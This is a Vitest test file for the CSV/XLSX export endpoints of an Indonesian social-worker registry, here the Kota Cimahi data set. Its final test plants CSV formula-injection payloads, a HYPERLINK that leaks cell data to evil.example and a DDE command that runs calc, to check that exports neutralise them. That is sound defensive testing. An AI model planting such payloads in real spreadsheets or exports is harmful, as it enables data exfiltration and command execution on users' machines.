import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { systemContext, withAuditContext } from '@peksos/db';
import { testDatabaseKind } from '@peksos/db/testing';
import { copyAreas, postImport, startTestRegistry, type TestRegistry } from './testing/test-registry.js';

async function download(registry: TestRegistry, path: string): Promise<{ status: number; type: string; body: Buffer }> {
  const response = await fetch(`${registry.url}${path}`);
  return { status: response.status, type: response.headers.get('content-type') ?? '', body: Buffer.from(await response.arrayBuffer()) };
}

function csvRows(body: Buffer): string[][] {
  return parse(body, { bom: true }) as string[][];
}

async function xlsxRows(body: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** The headline figures the GraphQL API answers, read through the workforce-summary export. */
async function headline(registry: TestRegistry, areaCode: string): Promise<string[][]> {
  return csvRows((await download(registry, `/api/export/workforce-summary.csv?areaCode=${areaCode}`)).body);
}

describe(`export over HTTP (${testDatabaseKind()})`, () => {
  let source: TestRegistry;
  let target: TestRegistry;

  beforeAll(async () => {
    source = await startTestRegistry({ dataSet: 'cimahi', allowFullNationalIdNumbers: true });
    target = await startTestRegistry({ dataSet: 'none' });
    await copyAreas(source.database, target.database);
  });
  afterAll(async () => {
    await source?.close();
    await target?.close();
  });

  it('exports the workforce summary of Kota Cimahi with the figures of the report', async () => {
    const rows = await headline(source, '32.77');
    const [header, city, ...kecamatan] = rows;
    const figure = (name: string, row = city!) => row[header!.indexOf(name)];
    expect(figure('Nama wilayah')).toBe('Kota Cimahi');
    expect(figure('Peksos')).toBe('36');
    expect(figure('Tersertifikasi')).toBe('13');
    expect(figure('Belum ditempatkan')).toBe('1');
    expect(figure('Organisasi tanpa Peksos')).toBe('16');
    expect(figure('Peksos per 100.000 penduduk')).toBe('6.19');
    expect(kecamatan.map((row) => row[0])).toEqual(['32.77.01', '32.77.02', '32.77.03']);
  });

  it('exports the coverage-gap list with its filters, as CSV and XLSX', async () => {
    const all = csvRows((await download(source, '/api/export/coverage-gaps.csv?areaCode=32.77')).body);
    expect(all.length - 1).toBe(16);
    expect(all[0]!.slice(0, 4)).toEqual(['Kode organisasi', 'Nama organisasi', 'Jenis', 'Kode wilayah']);
    const utara = csvRows((await download(source, '/api/export/coverage-gaps.csv?areaCode=32.77.03&certifiedOnly=true')).body);
    expect(utara.slice(1).every((row) => row[3]!.startsWith('32.77.03'))).toBe(true);
    const english = csvRows((await download(source, '/api/export/coverage-gaps.csv?areaCode=32.77&kinds=VILLAGE_OFFICE&lang=en')).body);
    expect(english[0]![0]).toBe('Organisation code');
    expect(english.length - 1).toBe(0); // every kelurahan office has its worker

    const xlsx = await download(source, '/api/export/coverage-gaps.xlsx?areaCode=32.77');
    expect(xlsx.type).toContain('spreadsheetml');
    expect((await xlsxRows(xlsx.body)).length - 1).toBe(16);

    const bad = await download(source, '/api/export/coverage-gaps.csv?areaCode=32.77.99.9999');
    expect(bad.status).toBe(404);
    expect(JSON.parse(bad.body.toString()).error).toMatchObject({ code: 'NOT_FOUND', field: 'areaCode' });
    expect((await download(source, '/api/export/coverage-gaps.csv?kinds=SCHOOL')).status).toBe(400);
  });

  it('exports workers with masked national ID numbers unless allowed and asked', async () => {
    const masked = csvRows((await download(source, '/api/export/workers.csv')).body);
    expect(masked.length - 1).toBe(36);
    expect(masked.slice(1).every((row) => /^\*{12}\d{4}$/.test(row[0]!))).toBe(true);
    const full = csvRows((await download(source, '/api/export/workers.csv?includeNationalIdNumbers=true')).body);
    expect(full.slice(1).every((row) => /^\d{16}$/.test(row[0]!))).toBe(true);
    expect((await download(target, '/api/export/workers.csv?includeNationalIdNumbers=true')).status).toBe(403);

    const certified = csvRows((await download(source, '/api/export/workers.csv?certificationStatus=CERTIFIED')).body);
    expect(certified.length - 1).toBe(13);
    const unplaced = csvRows((await download(source, '/api/export/workers.csv?placed=false')).body);
    expect(unplaced.length - 1).toBe(1);

    // The list's search (issue 18, item 8): the PKH unit's ten facilitators by "PKH"; organisations by kelurahan.
    const pkh = csvRows((await download(source, '/api/export/workers.csv?search=PKH')).body);
    expect(pkh.length - 1).toBe(10);
    const cibabat = csvRows((await download(source, '/api/export/organisations.csv?search=Cibabat')).body);
    expect(cibabat.slice(1).map((row) => row[3])).toEqual(expect.arrayContaining(['32.77.03.1002']));
    expect(cibabat.slice(1).every((row) => row[3]!.startsWith('32.77.03.1002'))).toBe(true);
    expect(cibabat.length - 1).toBeGreaterThanOrEqual(3);

    const xlsx = await xlsxRows((await download(source, '/api/export/workers.xlsx?includeNationalIdNumbers=true')).body);
    expect(typeof xlsx[1]![0]).toBe('string'); // the NIK stays text, all 16 digits
  });

  it('round trip: the Cimahi data exported and imported into an empty registry answers the same', async () => {
    for (const kind of ['organisations', 'workers', 'assignments'] as const) {
      const format = kind === 'workers' ? 'xlsx' : 'csv';
      const file = await download(source, `/api/export/${kind}.${format}?includeNationalIdNumbers=true`);
      expect(file.status).toBe(200);
      const imported = await postImport(target, kind, file.body, { dryRun: 'false' });
      expect(imported.body.errors).toEqual([]);
      expect(imported.body.applied).toBe(true);
      expect(imported.body.ignoredColumns).toEqual([]);
      // Re-importing the export changes nothing.
      const again = await postImport(target, kind, file.body, { dryRun: 'true' });
      expect(again.body.summary.unchanged).toBe(again.body.summary.rows);
    }
    for (const areaCode of ['32.77', '32.77.01', '32.77.02', '32.77.03']) {
      expect(await headline(target, areaCode)).toEqual(await headline(source, areaCode));
    }
    for (const query of ['areaCode=32.77', 'areaCode=32.77&certifiedOnly=true', 'areaCode=32.77.03&certifiedOnly=true']) {
      const gaps = async (registry: TestRegistry) =>
        csvRows((await download(registry, `/api/export/coverage-gaps.csv?${query}`)).body).map((row) => row.slice(0, 4));
      expect(await gaps(target)).toEqual(await gaps(source));
    }
  });

  it('serves templates whose example row imports', async () => {
    for (const kind of ['organisations', 'workers', 'assignments']) {
      for (const format of ['csv', 'xlsx']) {
        const template = await download(source, `/api/templates/${kind}.${format}`);
        expect(template.status).toBe(200);
        const { body } = await postImport(source, kind, template.body, { dryRun: 'true' });
        expect(body.summary.rows).toBe(1);
        // The example names an organisation (LKS-101) and a worker that the data set lacks: only those may fail.
        for (const error of body.errors) expect(['unknownOrganisation', 'unknownWorker']).toContain(error.key);
      }
    }
    const english = csvRows((await download(source, '/api/templates/workers.csv?lang=en')).body);
    expect(english[0]![0]).toBe('National ID number');
  });

  it('prints a one-page workforce report in Bahasa Indonesia', async () => {
    const response = await fetch(`${source.url}/report/workforce-summary?areaCode=32.77`);
    expect(response.headers.get('content-type')).toContain('text/html');
    const html = await response.text();
    expect(html).toContain('<html lang="id">');
    expect(html).toContain('Ringkasan Pekerja Sosial (Peksos) – Kota Cimahi');
    expect(html).toContain('<b>36</b><span>Peksos');
    expect(html).toContain('<b>13</b><span>tersertifikasi (36%)');
    expect(html).toContain('<b>16</b><span>organisasi tanpa Peksos</span>');
    expect(html).toContain('Cimahi Utara');
    expect(html).toContain('@page');
    expect((await fetch(`${source.url}/report/workforce-summary?areaCode=99`)).status).toBe(404);
  });

  it('writes no live formula into a CSV: cells starting with = + - @ tab or CR get an apostrophe, and import back as they were', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
    const command = "=cmd|' /C calc'!A0";
    const [organisation] = (await source.database.dataSource.query(`SELECT id, code, name FROM organisation WHERE code IS NOT NULL ORDER BY code LIMIT 1`)) as { id: string; code: string; name: string }[];
    const [worker] = (await source.database.dataSource.query(`SELECT id, full_name, phone FROM worker ORDER BY full_name LIMIT 1`)) as { id: string; full_name: string; phone: string | null }[];
    const change = (sql: string, parameters: unknown[]) =>
      withAuditContext(systemContext('formula test', 'test'), () => source.database.dataSource.transaction((manager) => manager.query(sql, parameters)));
    await change(`UPDATE organisation SET name = $2 WHERE id = $1`, [organisation!.id, hyperlink]);
    await change(`UPDATE worker SET full_name = $2, phone = $3 WHERE id = $1`, [worker!.id, command, '+6281234567890']);
    try {
      const organisations = csvRows((await download(source, '/api/export/organisations.csv')).body);
      const nameColumn = organisations[0]!.indexOf('Nama organisasi');
      const organisationRow = organisations.find((row) => row.includes(organisation!.code))!;
      expect(organisationRow[nameColumn]).toBe(`'${hyperlink}`);
      const gaps = await download(source, '/api/export/coverage-gaps.csv?areaCode=32');
      expect(gaps.body.toString()).not.toMatch(/(^|[,\n])"?=HYPERLINK/);

      const workersCsv = await download(source, '/api/export/workers.csv?includeNationalIdNumbers=true');
      const workers = csvRows(workersCsv.body);
      const workerRow = workers.find((row) => row.includes(`'${command}`));
      expect(workerRow).toBeDefined();
      expect(workerRow![workers[0]!.indexOf('Telepon')]).toBe("'+6281234567890");
      // No cell of any row starts a formula.
      for (const row of [...organisations, ...workers]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      // XLSX cells are typed: the name stays a plain string cell, exactly as written.
      const xlsx = await xlsxRows((await download(source, '/api/export/organisations.xlsx')).body);
      expect(xlsx.some((row) => row.includes(hyperlink))).toBe(true);

      // The exported CSV imports back unchanged: the apostrophe is not taken into the data.
      const again = await postImport(source, 'workers', workersCsv.body, { dryRun: 'true' });
      expect(again.body.errors).toEqual([]);
      expect(again.body.summary.unchanged).toBe(again.body.summary.rows);
    } finally {
      await change(`UPDATE organisation SET name = $2 WHERE id = $1`, [organisation!.id, organisation!.name]);
      await change(`UPDATE worker SET full_name = $2, phone = $3 WHERE id = $1`, [worker!.id, worker!.full_name, worker!.phone]);
    }
  });
});
